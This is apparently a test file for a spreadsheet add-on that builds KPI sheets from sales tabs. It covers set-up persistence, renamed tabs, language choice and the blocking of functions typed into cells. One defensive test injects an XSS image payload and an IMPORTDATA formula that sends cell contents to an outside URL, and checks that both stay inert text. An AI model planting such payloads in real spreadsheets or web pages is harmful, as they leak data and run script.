import type { HostTab } from '../../../local/host/host';
import type { Explanation } from '../../../src/explain/explanation';
import type { Opening } from '../../../src/home/opening';
import { say } from '../../../src/texts/say';
import type { Checks } from '../../../src/wizard/checks';
import type { Setup } from '../../../src/wizard/setup/setup';
import { kpiRow, shown } from '../../schedule/scheduled-host';
import { deals as smallDeals } from '../../wizard/small-company';
import { ask, filledIn, formulasOf, open, setupOf, tabs } from './sidebar-host';

describe('opening', () => {
  test('shows the steps where nothing was built, and reads each tab once', () => {
    const host = open();
    const { home, setup } = ask<Opening>(host, 'openSidebar');
    expect(home).toBeNull();
    expect(setup?.tabs.map(({ table }) => table)).toEqual(['deals', 'leads']);
    expect(host.counts.reads['Range.getValues']).toBe(tabs.length);
    expect(host.counts.writes).toEqual({});
    expect([...host.state.properties.values()].every((kept) => kept.size === 0)).toBe(true);
  });

  test('an empty spreadsheet says so and breaks nothing', () => {
    const view = setupOf(open({ tabs: [] }));
    expect(view.tabs.every(({ table }) => table === null)).toBe(true);
    expect(view.setup.picked).toEqual([]);
  });

  test('speaks the language of the person, whatever the spreadsheet’s', () => {
    const dutch = setupOf(open({ user: { email: 'o@example.com', locale: 'nl' }, locale: 'en_US' }));
    expect(dutch.choices.find(({ id }) => id === 'win_rate')?.title).toBe('Winpercentage');
    expect(setupOf(open({ locale: 'nl_NL' })).choices.find(({ id }) => id === 'win_rate')?.title).toBe('Win rate');
  });
});

describe('half done', () => {
  test('a set-up is found again where it was left, wrong input included', () => {
    const host = open();
    const { setup } = setupOf(host);
    const left: Setup = { ...filledIn(setup, 'team@'), step: 'reports' };
    ask(host, 'keepSetup', { setup: left });
    expect(setupOf(host).setup).toEqual(left);
  });

  test('it is as large as it needs to be: no value beyond 9 kB', () => {
    const host = open();
    const { setup } = setupOf(host);
    const answers = Array.from({ length: 400 }, (_, index) => ({
      tab: 'Deals',
      column: 'Stage',
      value: `étape n° ${index}`,
      answer: 'open',
    }));
    ask(host, 'keepSetup', { setup: { ...setup, answers } });
    expect(setupOf(host).setup.answers).toEqual(answers);
    ask(host, 'keepSetup', { setup });
    const kept = [...(host.state.properties.get('document local-spreadsheet') ?? new Map()).keys()];
    expect(kept.filter((key) => key.startsWith('setup'))).toEqual(['setup', 'setup.0']);
  });

  test('what is kept and cannot be read is as if nothing were', () => {
    const host = open();
    host.state.properties.set(
      'document local-spreadsheet',
      new Map([
        ['setup', '1'],
        ['setup.0', '{"step":"pick"}'],
      ]),
    );
    expect(setupOf(host).setup.step).toBe('objective');
  });

  test('a tab renamed since then keeps its answers, and the person is told', () => {
    const cells = [...smallDeals.cells, ['Verbal', 'Verbal', '1', '2017-12-01', '2017-12-02', 'Ann']];
    const host = open({ tabs: [{ name: 'Deals', cells }, tabs[1]] as HostTab[] });
    const { setup } = setupOf(host);
    const answers = [{ tab: 'Deals', column: 'Stage', value: 'Verbal', answer: 'open' }];
    ask(host, 'keepSetup', { setup: { ...setup, answers } });
    const sheet = host.workbook.sheetByName('Deals');
    if (sheet) sheet.name = 'Deals 2018';
    const view = setupOf(host);
    expect(view.setup.answers).toEqual([{ ...answers[0], tab: 'Deals 2018' }]);
    expect(view.tabs[0].questions).toEqual([]);
    expect(view.changes).toEqual([
      say({ text: 'wizard_tab_renamed', values: { before: 'Deals', now: 'Deals 2018' } }, 'en'),
    ]);
  });
});

describe('checking what was typed', () => {
  test('reads no tab', () => {
    const host = open();
    const view = setupOf(host);
    host.resetCounts();
    const checks = ask<Checks>(host, 'checkTyped', { setup: filledIn(view.setup), context: view.context });
    expect(checks.goals.revenue.understood).toBe('15,000');
    expect(host.counts.reads).toEqual({});
  });

  test('what is no set-up comes back as a sentence', () => {
    expect(() => ask(open(), 'checkTyped', { setup: { step: 'x' } })).toThrow('The plan');
  });
});

test('hostile names, headers and cells stay text, from the tabs to the KPI sheet', () => {
  const evil = '<img src=x onerror=alert(1)>';
  const formula = '=IMPORTDATA("https://example.com/"&B2)';
  const cells = [
    ['Deal', 'Stage', 'Amount', 'Created', 'Close date', 'Owner', evil],
    ...smallDeals.cells.slice(1).map((row, index) => [...row.slice(0, 5), index % 2 ? evil : formula, 'x']),
    ['Odd', evil, '1', '2017-12-01', '', evil, 'x'],
  ];
  const host = open({ tabs: [{ name: evil, cells }] as HostTab[] });
  const view = setupOf(host);
  expect(view.tabs[0].questions[0]).toMatchObject({ tab: evil, value: evil });
  expect(view.people.map(({ name }) => name)).toEqual(expect.arrayContaining([evil, formula]));
  const setup = {
    ...view.setup,
    objective: formula,
    picked: view.setup.picked.map((kpi) => ({ ...kpi, owner: formula })),
  };
  ask(host, 'buildSetup', { setup });
  expect(kpiRow(host, 'Revenue').Owner).toBe(formula);
  expect(formulasOf(host).filter((text) => text.includes('IMPORTDATA'))).toEqual([]);
  expect(ask<Opening>(host, 'openSidebar').home?.kpis[0].owner).toBe(formula);
});

test.each([
  'openSidebar',
  'readSetup',
  'keepSetup',
  'checkTyped',
  'buildSetup',
  'buildProgress',
  'refreshNow',
  'explainSelection',
  'selectCells',
  'adoptPlan',
  'stopAndRemove',
])('%s typed into a cell fails with a sentence and changes nothing', (name) => {
  const host = open();
  expect(JSON.stringify(host.evaluate(`=${name}()`))).toContain('works from the menu');
  expect(host.workbook.sheets).toHaveLength(tabs.length);
  expect([...host.state.properties.values()].every((kept) => kept.size === 0)).toBe(true);
});

test('what KPIs are to stand side by side by is chosen there, stands in the plan, and is explained', () => {
  const host = open();
  const { setup, breakdown } = setupOf(host);
  expect(breakdown.choices.map(({ by }) => by)).toContain('close_weekday');
  ask(host, 'buildSetup', { setup: { ...filledIn(setup), breakdown: 'close_weekday' } });
  const rows = shown(host, 'KPIs per weekday of closing');
  expect([rows[2][0], rows[4][0]]).toEqual(['Weekday of closing', 'Monday']);
  expect(shown(host, 'KPI plan').find(([label]) => label === 'Side by side per')).toContain('Weekday of closing');
  const sheet = host.workbook.sheetByName('KPIs per weekday of closing');
  if (!sheet) throw new Error('no such tab');
  host.workbook.activate(sheet, [{ row: 5, column: 2, rows: 1, columns: 1 }]);
  expect(ask<Explanation>(host, 'explainSelection').title).toBe(`${rows[2][1]} · Monday`);
});
